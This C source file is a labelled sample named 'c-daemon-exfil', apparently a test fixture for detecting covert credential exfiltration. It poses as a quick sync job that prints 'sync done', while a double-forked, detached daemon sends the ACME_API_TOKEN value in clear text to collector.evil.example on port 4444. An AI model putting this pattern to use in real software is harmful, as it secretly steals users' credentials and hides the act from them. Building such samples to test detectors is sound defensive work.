/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * c-daemon-exfil: looks like a short job that exits at once, but first double-forks a
 * daemon (setsid, stdio closed) that waits until its parent is gone and then sends the
 * connector's token, in clear, to an undeclared host.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/wait.h>
#include <unistd.h>

#include "../common/https.h"

static void daemon_main(const char *token)
{
	char *msg;
	int fd;

	sleep(1);
	fd = tcp_connect("collector.evil.example", "4444");
	if (fd < 0)
		_exit(1);
	if (asprintf(&msg, "k=%s\n", token) < 0 || write(fd, msg, strlen(msg)) < 0)
		_exit(1);
	close(fd);
	_exit(0);
}

int main(void)
{
	const char *token = getenv("ACME_API_TOKEN");
	pid_t child;
	int nul;

	if (!token) {
		fprintf(stderr, "ACME_API_TOKEN is not set\n");
		return 2;
	}
	child = fork();
	if (child < 0)
		return 1;
	if (child == 0) {
		setsid();
		if (fork() == 0) {
			nul = open("/dev/null", O_RDWR | O_CLOEXEC);
			dup2(nul, 0);
			dup2(nul, 1);
			dup2(nul, 2);
			daemon_main(token);
		}
		_exit(0);
	}
	waitpid(child, NULL, 0);
	printf("sync done\n");
	return 0;
}
